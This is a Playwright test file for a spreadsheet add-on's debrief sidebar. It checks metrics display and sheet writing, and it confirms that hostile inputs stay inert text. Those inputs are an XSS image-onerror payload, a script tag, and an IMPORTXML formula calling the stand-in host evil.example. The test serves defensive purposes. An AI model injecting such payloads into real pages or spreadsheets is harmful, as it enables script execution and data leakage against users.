// The debrief sidebar in real headless Chromium: opened from the menu for the selected Pipeline row,
// bridged to the built add-on in the emulator; hostile text from the sheet and typed in the page
// stays text.
import type { Page } from 'playwright-core';
import { newDraft } from '../../src/core/brief/draft';
import { SIDEBAR_API_NAMES } from '../../src/core/sidebar-contract';
import { completeDraft } from '../integration/brief-helpers';
import { type Addon, freshAddon } from '../integration/harness';
import { day, NOW, promotionRow, typeRows } from '../integration/pipeline-helpers';
import { writeResults } from '../integration/results-helpers';
import { CHROMIUM, describeWith } from '../programs';
import { type ServedPage, serveSidebar } from './bridge';
import { chromiumForTests, screenshotPath } from './chromium';

jest.setTimeout(60_000);

describeWith(CHROMIUM, 'the debrief sidebar in Chromium', () => {
  const browser = chromiumForTests();
  const HOSTILE_NAME = '<img src=x onerror="window.hacked=1">';
  let addon: Addon;
  let served: ServedPage;
  let page: Page;

  beforeEach(async () => {
    addon = freshAddon({ timeZone: 'America/New_York' });
    addon.emu.setNow(NOW);
    addon.gas.setUpWorkbook();
    typeRows(addon, 2, [
      promotionRow(HOSTILE_NAME, { Stage: 'Measurement', 'Start date': day('2026-08-01') }),
    ]);
    addon.gas.createBrief(
      'P-0001',
      completeDraft(newDraft(), {
        startDate: '2026-08-01',
        kickoffDate: '2026-08-01',
        launchDate: '2026-08-15',
        midReviewDate: '2026-10-01',
        endDate: '2026-11-30',
        targetReach: '50000',
        targetAttributedSales: '24000',
      }),
    );
    writeResults(addon, [
      { id: 'P-0001', month: '2026-08', source: 'Shopify', attributedSales: 7000 },
      { id: 'P-0001', month: '2026-09', source: 'Shopify', attributedSales: 2000 },
      { id: 'P-0001', month: '2026-10', source: 'Shopify', attributedSales: 2500 },
      { id: 'P-0001', month: '2026-10', source: 'YouTube', views: 60000, engagement: 3000 },
    ]);
    addon.emu.user.select('Pipeline', 'C2');
    addon.gas.openDebrief();
    const { html, title } = addon.emu.ui.sidebars.at(-1)!;
    expect(title).toBe('Debrief');
    served = await serveSidebar({ html, gas: addon.gas, allowed: SIDEBAR_API_NAMES });
    page = await browser().newPage({ viewport: { width: 300, height: 1100 } });
  });

  afterEach(async () => {
    await page.close();
    await served.close();
  });

  describe('debrief sidebar', () => {
    it('shows targets against actuals and the suggestion, checks the numbers, writes the sheet', async () => {
      const dialogs: string[] = [];
      const requests: string[] = [];
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      page.on('request', (r) => requests.push(r.url()));
      await page.goto(served.url);
      await page.waitForSelector('#metrics');
      // The producer's name is an option's text, not markup.
      expect(await page.textContent('#partnership option:checked')).toBe(
        `P-0001 · ${HOSTILE_NAME} (Measurement)`,
      );
      expect(await page.locator('#metrics tr[data-metric="Reach"] td').allTextContents()).toEqual([
        'Reach (leading)',
        '50,000',
        '60,000',
        'Met',
      ]);
      expect(await page.textContent('#suggestion-preview .suggestion')).toBe('Consider exit');
      expect(await page.textContent('#suggestion-preview .reasons')).toBe(
        'attributed sales under half of the monthly target ($6,000.00) in 2026-09 and 2026-10',
      );

      await page.fill('#f-contentOutput', 'four');
      await page.fill('#f-worked', '=IMPORTXML("https://evil.example","//a")');
      await page.fill('#f-didNotWork', '<script>window.hacked=2</script>');
      await page.check('#f-strainedRelationship');
      await page.click('#write-debrief');
      await page.waitForSelector('#e-contentOutput:not(:empty)');
      expect(await page.textContent('#e-contentOutput')).toBe(
        'Pieces published must be a whole number of 0 or more',
      );
      expect(await page.getAttribute('#f-contentOutput', 'aria-invalid')).toBe('true');
      expect(addon.emu.spreadsheet.getSheetByName('Debrief P-0001')).toBeNull();

      await page.fill('#f-contentOutput', '4');
      await page.setViewportSize({ width: 300, height: 1400 });
      await page.click('#write-debrief');
      await page.waitForSelector('.message.ok');
      expect(await page.textContent('.message.ok')).toContain('Debrief written to sheet "Debrief P-0001".');
      expect(await page.textContent('#suggestion-preview .reasons')).toBe(
        [
          'attributed sales under half of the monthly target ($6,000.00) in 2026-09 and 2026-10',
          'the relationship is strained (ticked in the debrief)',
        ].join(''),
      );
      // The table now shows what was typed.
      expect(
        await page.locator('#metrics tr[data-metric="Content output (pieces)"] td').nth(2).textContent(),
      ).toBe('4');
      await page.screenshot({ path: screenshotPath('sidebar-debrief.png') });

      const values = addon.emu.user.getValues('Debrief P-0001');
      expect(values.find((r) => r[0] === 'What worked')?.[1]).toBe(
        '=IMPORTXML("https://evil.example","//a")',
      );
      expect(values.find((r) => r[0] === "What didn't")?.[1]).toBe('<script>window.hacked=2</script>');
      expect(values[0][0]).toBe(`Debrief P-0001: ${HOSTILE_NAME}`);
      expect(served.calls.filter((c) => c.name === 'writeDebrief')).toHaveLength(2);
      expect(await page.evaluate('window.hacked')).toBeUndefined();
      expect(dialogs).toEqual([]);
      expect(requests.every((url) => url.startsWith(served.url))).toBe(true);
    });

    it('says why a partnership before Measurement has no debrief yet; the picker switches', async () => {
      typeRows(addon, 3, [promotionRow('Ben Okafor')]);
      addon.emu.user.select('Pipeline', 'C3');
      await page.goto(served.url);
      await page.waitForSelector('.message.secondary');
      expect(await page.textContent('.message')).toBe(
        'P-0002 is at Promotion: a debrief is written from Measurement on, once there are results to compare.',
      );
      expect(await page.locator('#write-debrief').count()).toBe(0);
      await page.selectOption('#partnership', 'P-0001');
      await page.waitForSelector('#write-debrief');
      expect(await page.textContent('#suggestion-preview .suggestion')).toBe('Consider exit');
    });
  });
});
